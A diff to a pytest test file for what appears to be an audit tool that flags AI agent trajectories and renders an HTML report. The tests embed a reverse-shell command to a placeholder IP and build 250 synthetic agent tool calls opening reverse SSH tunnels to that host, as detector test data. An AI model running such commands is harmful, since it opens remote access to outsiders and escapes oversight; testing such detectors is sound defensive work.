@@ -35,3 +35,26 @@ def test_report_renders_in_chromium(cli, tmp_path: Path) -> None:
     assert "corral audit report" in dom
     assert "bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1" in dom
     assert dom.count('class="traj"') == 10
+
+
+def test_every_flagged_trajectory_is_listed_in_pages(cli, tmp_path: Path) -> None:
+    import json
+
+    lines = []
+    for i in range(250):
+        args = json.dumps({"command": f"ssh -fNR {2000 + i}:localhost:22 u@203.0.113.7"})
+        lines.append(json.dumps({"id": f"t{i}", "messages": [
+            {"role": "user", "content": "go"},
+            {"role": "assistant", "content": None, "tool_calls": [
+                {"id": "c", "type": "function", "function": {"name": "bash", "arguments": args}}]},
+        ]}))  # fmt: skip
+    corpus = tmp_path / "many.jsonl"
+    corpus.write_text("\n".join(lines) + "\n")
+    report = tmp_path / "report.html"
+    assert cli(str(corpus), "--report", str(report)).exit_code == 0
+    dom = _chromium(tmp_path, "--dump-dom", report.as_uri()).stdout
+    assert "All flagged trajectories (250)" in dom
+    assert [dom.count(f'<tbody class="page p{n}">') for n in range(4)] == [1, 1, 1, 0]
+    assert '<label for="pg2">3</label>' in dom and "<script" not in dom
+    assert all(f">t{i}<" in dom for i in (0, 99, 100, 249))
+    assert dom.count('class="traj"') == 50  # the worst ones with context, as before
